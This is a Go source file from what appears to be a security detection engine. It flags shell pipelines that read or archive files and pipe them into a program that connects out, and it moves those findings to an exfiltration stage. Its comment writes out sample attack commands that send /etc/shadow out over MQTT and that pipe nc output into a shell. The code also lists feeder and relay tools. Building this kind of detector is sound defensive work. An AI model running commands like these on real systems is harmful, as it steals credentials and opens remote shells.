package timeline

import (
	"fmt"
	"path"
	"slices"
	"strings"

	"github.com/auditchain/auditchain/detect"
	"github.com/auditchain/auditchain/parser"
)

// A pipeline that reads files into a program that connects out — `sudo
// tar czf - -C / etc/shadow … | base64 -w0 | mosquitto_pub -h … -s` —
// sends the files out, whatever the program is: the engine knows the
// relays by name (nc, socat: detect's feedRE), but an MQTT, AMQP or
// database client carries a payload as well, and when the feeder's exec
// is judged its sink has not connected yet (it connects once the data
// comes). At the end of the input the sink's connection is known: the
// processes of a pipeline whose first command reads or archives files
// and whose last command's process connected out are the data leaving
// (exfiltration, stage 8), observed by the shell's command and the
// sink's connection. Findings the engine placed on 3, 4 or 7 move; a
// shell in the pipe after the sink (`… | nc h p | sh`) is a channel, and
// nothing moves.

// pipeFeeders are the programs that read files or archive them onto
// standard output at a pipeline's head.
var pipeFeeders = map[string]bool{"cat": true, "tar": true, "gzip": true, "bzip2": true, "xz": true, "zstd": true,
	"zip": true, "zcat": true, "base64": true, "xxd": true, "dd": true, "pg_dump": true, "mysqldump": true, "sqlite3": true}

// pipeWrappers run the command that follows them.
var pipeWrappers = map[string]bool{"sudo": true, "nice": true, "ionice": true, "nohup": true, "env": true, "timeout": true, "doas": true}

// fedSinks returns the program names of a shell command's pipelines whose
// head is a feeder, each pipeline's last command ("" when none).
func fedSinks(sc string) []string {
	var out []string
	for _, pl := range strings.FieldsFunc(sc, func(r rune) bool { return r == ';' || r == '\n' || r == '&' }) {
		segs := strings.Split(pl, "|")
		var parts []string
		for _, s := range segs {
			if s = strings.TrimSpace(s); s != "" { // "||" leaves an empty part: another pipeline, kept apart below
				parts = append(parts, s)
			}
		}
		if len(parts) < 2 || strings.Contains(pl, "||") || !pipeFeeders[commandWord(parts[0])] {
			continue
		}
		if sink := commandWord(parts[len(parts)-1]); sink != "" && !isShellName(sink) {
			out = append(out, sink)
		}
	}
	return out
}

// commandWord is the program a simple command runs: its first word past
// wrappers, their options and variable assignments, as a base name.
func commandWord(s string) string {
	ws := strings.Fields(s)
	for i := 0; i < len(ws); i++ {
		w := strings.Trim(ws[i], `'"()`)
		switch {
		case w == "" || strings.HasPrefix(w, "-") || strings.Contains(w, "="):
			continue
		case pipeWrappers[path.Base(w)]:
			continue
		}
		return path.Base(w)
	}
	return ""
}

// placeFedPipes moves the findings on a fed pipeline's processes to
// stage 8 when its sink connected out (above).
func (b *Builder) placeFedPipes(all, chainable []*detect.Finding, tree *parser.Tree) []*detect.Finding {
	var sinks map[*parser.Process]*parser.Event // a connecting process → its first connect
	repl := map[*detect.Finding]*detect.Finding{}
	for _, f := range chainable {
		p := procOf(f)
		if f.Event == nil || p == nil || f.Tampering || f.Stage == detect.StageExfiltrationImpact ||
			f.Stage != detect.StageCommandExecution && f.Stage != detect.StageSuspiciousSpawn && f.Stage != detect.StageCommandAndControl {
			continue
		}
		sh := p.Parent
		if sh != nil && !isShellProc(sh) && sh.Parent != nil && pipeWrappers[path.Base(sh.Exe)] {
			sh = sh.Parent // tar under sudo: its shell is sudo's
		}
		if !isShellProc(sh) {
			continue
		}
		sc := ""
		for _, e := range sh.Execs {
			if c := dashC(e.Args); c != "" {
				sc = c
			}
		}
		names := fedSinks(sc)
		if len(names) == 0 {
			continue
		}
		if sinks == nil {
			sinks = map[*parser.Process]*parser.Event{}
			for _, c := range b.connects {
				if c.Proc != nil && sinks[c.Proc] == nil {
					sinks[c.Proc] = c
				}
			}
		}
		if tree != nil {
			tree.LoadChildren(sh)
		}
		var out *parser.Event
		var sinkProc *parser.Process
		for _, k := range sh.Children {
			if c := sinks[k]; c != nil && k.Name() != "" && slices.Contains(names, path.Base(k.Exe)) {
				out, sinkProc = c, k
				break
			}
		}
		if out == nil {
			continue
		}
		d := *f
		d.Stage = detect.StageExfiltrationImpact
		d.Reason = fmt.Sprintf("observed: its shell pipes files it reads into %s[%d], which connected to %s at %s; the data leaves the host (T1048) (was stage %d: %s)",
			sinkProc.Name(), sinkProc.Key.PID, out.Peer.String(), when(out.Time), f.Stage, f.Reason)
		repl[f] = &d
	}
	return replaced(all, chainable, repl)
}
